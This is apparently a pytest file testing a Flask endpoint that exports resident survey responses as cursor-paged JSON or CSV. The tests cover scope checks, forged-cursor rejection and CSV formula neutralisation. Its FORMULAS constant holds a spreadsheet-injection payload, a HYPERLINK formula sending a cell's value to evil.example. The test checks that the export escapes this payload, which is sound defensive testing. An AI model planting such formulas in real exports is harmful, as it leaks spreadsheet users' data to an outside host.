"""GET /api/v1/responses: a scoped token, JSON pages by cursor, or every response as CSV."""

from __future__ import annotations

import base64
import csv
import io
import json
import uuid
from collections.abc import Callable, Iterator
from typing import Any

import pytest
from flask import Flask
from flask.testing import FlaskClient

from tests.standins import LibreStandIn, libre_standin
from tests.support import FakeClock
from tests.web.responses_helpers import (
    SCORES,
    addresses,
    answer,
    ask,
    assert_no_address,
    bearer,
    token,
)

URL = "/api/v1/responses"
SPANISH = "El agente fue muy amable conmigo"
ENGLISH = "The officer was very kind to me"
FORMULAS = ('=HYPERLINK("http://evil.example/?x="&A1,"Click")', "+1 555 0100 call me back")


@pytest.fixture()
def libre() -> Iterator[LibreStandIn]:
    """Serve a LibreTranslate stand-in."""
    with libre_standin() as standin:
        yield standin


@pytest.fixture()
def site(make_app: Callable[..., Flask], own_database_url: str, libre: LibreStandIn) -> Flask:
    """An app on a database of its own (SQLite, then PostgreSQL), translating into English."""
    return make_app(own_database_url, translator="libre", translator_url=libre.url)


@pytest.fixture()
def reader(site: Flask) -> str:
    """A token that may export responses, and nothing else."""
    return token(site, "responses:read")


def walk(client: FlaskClient, raw: str, **params: Any) -> list[dict[str, Any]]:
    """Follow next_cursor from the first page to the last; return every row in order."""
    rows: list[dict[str, Any]] = []
    cursor = None
    while True:
        query = {**params, **({"cursor": cursor} if cursor else {})}
        page = client.get(URL, query_string=query, headers=bearer(raw))
        assert page.status_code == 200, page.get_json()
        rows.extend(page.get_json()["responses"])
        cursor = page.get_json()["next_cursor"]
        if cursor is None:
            return rows


def read_csv(response: Any) -> list[dict[str, str]]:
    """Parse a CSV answer into rows keyed by the header."""
    assert response.status_code == 200, response.get_data(as_text=True)
    assert response.mimetype == "text/csv"
    return list(csv.DictReader(io.StringIO(response.get_data(as_text=True))))


def test_only_a_token_with_responses_read_may_export(site: Flask) -> None:
    client = site.test_client()
    for scopes in (("surveys:write",), ("results:read",), ("surveys:write", "results:read")):
        refused = client.get(URL, headers=bearer(token(site, *scopes)))
        assert refused.status_code == 403
        assert refused.get_json() == {
            "error": "forbidden",
            "reason": "token lacks scope responses:read",
        }
    assert client.get(URL).status_code == 401
    assert client.get(URL, headers=bearer(token(site, "responses:read"))).status_code == 200


def _forged(value: Any) -> str:
    """Encode something as a cursor would be, but not one the API wrote."""
    return base64.urlsafe_b64encode(json.dumps(value).encode()).decode().rstrip("=")


@pytest.mark.parametrize(
    ("query", "reason"),
    [
        ({"cursor": "not a cursor"}, "cursor is not one this API returned"),
        ({"cursor": _forged(["2026-11-02T15:00:00", "x"])}, "cursor is not one"),
        ({"cursor": _forged({"a": 1})}, "cursor is not one"),
        ({"since": "yesterday"}, "since must be an ISO 8601 date"),
        ({"since": "2026-13-01"}, "since must be an ISO 8601 date"),
        ({"since": "9999-12-31T23:59:59-12:00"}, "since must be an ISO 8601 date"),
        ({"cursor": _forged(["0001-01-01T00:00:00+14:00", str(uuid.uuid4())])}, "cursor is not"),
        ({"cursor": base64.urlsafe_b64encode(b"[" * 100_000).decode()}, "cursor is not"),
        ({"limit": "²"}, "limit must be a whole number"),
        ({"limit": "9" * 5000}, "limit must be a whole number"),
        ({"limit": "0"}, "limit must be a whole number from 1 to 1000"),
        ({"limit": "1001"}, "limit must be a whole number from 1 to 1000"),
        ({"limit": "ten"}, "limit must be a whole number from 1 to 1000"),
        ({"format": "xml"}, "format must be csv or json"),
        ({"format": "csv", "limit": "5"}, "a CSV holds every response"),
    ],
)
def test_a_bad_query_is_400_with_the_reason(
    site: Flask, reader: str, query: dict[str, str], reason: str
) -> None:
    response = site.test_client().get(URL, query_string=query, headers=bearer(reader))
    assert response.status_code == 400
    assert reason in response.get_json()["reason"]


def test_a_row_carries_the_contact_disposition_languages_and_answers(
    site: Flask, reader: str, libre: LibreStandIn
) -> None:
    client = site.test_client()
    writer = token(site, "surveys:write")
    libre.known[SPANISH] = ENGLISH
    survey_id, number = ask(client, writer, language="es")
    answer(client, number, "sí", "5", "4", "5", "5", SPANISH)
    assert site.extensions["parley.runtime"].dispatcher.drain(timeout=30)

    [row] = walk(client, reader)

    assert {key: row[key] for key in row if key != "answers"} == {
        "survey_id": survey_id,
        "flow": "post_contact",
        "flow_version": row["flow_version"],
        "channel": "sms",
        "status": "completed",
        "disposition": "complete",
        "reason": None,
        "language": "es",
        "detected_language": "es",
        "officer_id": "A123",
        "unit": "North Precinct",
        "incident_id": f"24-{number[-7:]}",
        "call_type": "traffic_stop",
        "occurred_at": "2026-11-02T14:30:00+00:00",
        "created_at": "2026-11-02T15:00:00+00:00",
        "started_at": "2026-11-02T15:00:00+00:00",
        "ended_at": "2026-11-02T15:00:00+00:00",
    }
    assert len(row["flow_version"]) > 0
    by_question = {a["question"]: a for a in row["answers"]}
    # Given in one instant (the clock stands still): then ordered by question id.
    assert list(by_question) == sorted(
        ["listened", "respect", "explained", "overall", "trust", "comment"]
    )
    assert by_question["respect"]["value"] == 5
    assert by_question["comment"] == {
        "question": "comment",
        "value": SPANISH,
        "text": SPANISH,
        "language": "es",
        "answered_at": "2026-11-02T15:00:00+00:00",
        "detected_language": "es",
        "translation": ENGLISH,
        "translation_language": "en",
        "translation_status": "done",
    }
    assert_no_address(row, addresses(site))


def test_pages_walk_every_row_once_while_new_surveys_arrive(
    site: Flask, reader: str, clock: FakeClock
) -> None:
    client = site.test_client()
    writer = token(site, "surveys:write")
    # Seven surveys in one instant: pages must break the tie by id, not skip or repeat.
    first = [ask(client, writer)[0] for _ in range(7)]

    seen: list[str] = []
    page = client.get(URL, query_string={"limit": 3}, headers=bearer(reader)).get_json()
    seen += [row["survey_id"] for row in page["responses"]]
    clock.advance(minutes=1)
    later = [ask(client, writer)[0] for _ in range(4)]
    seen += [row["survey_id"] for row in walk(client, reader, limit=3, cursor=page["next_cursor"])]

    assert len(seen) == len(set(seen)) == 11
    assert set(seen) == set(first) | set(later)
    assert seen[7:] == sorted(later)  # later ones come after, in (created_at, id) order
    assert seen[:7] == sorted(first)


def test_the_last_full_page_is_followed_by_an_empty_one(site: Flask, reader: str) -> None:
    client = site.test_client()
    writer = token(site, "surveys:write")
    made = {ask(client, writer)[0] for _ in range(4)}
    assert {row["survey_id"] for row in walk(client, reader, limit=2)} == made
    assert {row["survey_id"] for row in walk(client, reader, limit=1000)} == made


def test_since_keeps_the_surveys_created_from_then_on(
    site: Flask, reader: str, clock: FakeClock
) -> None:
    client = site.test_client()
    writer = token(site, "surveys:write")
    ask(client, writer)
    clock.advance(days=1)  # 2026-11-03T15:00Z
    newer = ask(client, writer)[0]

    for since in ("2026-11-03", "2026-11-03T15:00:00Z", "2026-11-03T10:00:00-05:00"):
        found = walk(client, reader, since=since)
        assert [row["survey_id"] for row in found] == [newer], since
    assert len(walk(client, reader, since="2026-11-03T15:00:01")) == 0
    assert len(walk(client, reader, since="2026-11-02")) == 2


@pytest.mark.parametrize("how", ["query", "accept"])
def test_csv_has_a_column_group_per_question_and_neutralises_formulas(
    site: Flask, reader: str, how: str
) -> None:
    client = site.test_client()
    writer = token(site, "surveys:write")
    made = []
    for comment in FORMULAS:
        survey_id, number = ask(client, writer)
        answer(client, number, *SCORES, comment)
        made.append(survey_id)
    unanswered = ask(client, writer, unit="@SUM(1+1)")[0]

    if how == "query":
        response = client.get(URL, query_string={"format": "csv"}, headers=bearer(reader))
    else:
        response = client.get(URL, headers={**bearer(reader), "Accept": "text/csv"})
    rows = read_csv(response)

    header = list(rows[0])
    assert header[:3] == ["survey_id", "flow", "flow_version"]
    assert header[-8:] == [
        "q_trust",
        "q_trust_raw",
        "q_trust_translation",
        "q_trust_translation_status",
        "q_comment",
        "q_comment_raw",
        "q_comment_translation",
        "q_comment_translation_status",
    ]
    by_id = {row["survey_id"]: row for row in rows}
    assert set(by_id) == {*made, unanswered}
    assert by_id[made[0]]["q_comment_raw"] == "'" + FORMULAS[0]
    assert by_id[made[1]]["q_comment_raw"] == "'" + FORMULAS[1]
    assert by_id[made[1]]["q_comment"] == "'" + FORMULAS[1]
    assert by_id[made[1]]["q_respect"] == "5"
    assert by_id[unanswered]["unit"] == "'@SUM(1+1)"
    assert by_id[unanswered]["q_comment_raw"] == ""
    assert_no_address(rows, addresses(site))
    assert response.headers["Content-Disposition"] == 'attachment; filename="responses.csv"'


def test_json_leaves_text_as_the_resident_wrote_it(site: Flask, reader: str) -> None:
    client = site.test_client()
    survey_id, number = ask(client, token(site, "surveys:write"))
    answer(client, number, *SCORES, FORMULAS[0])
    [row] = walk(client, reader)
    [comment] = [given for given in row["answers"] if given["question"] == "comment"]
    assert (row["survey_id"], comment["text"], comment["value"]) == (survey_id, *FORMULAS[:1] * 2)
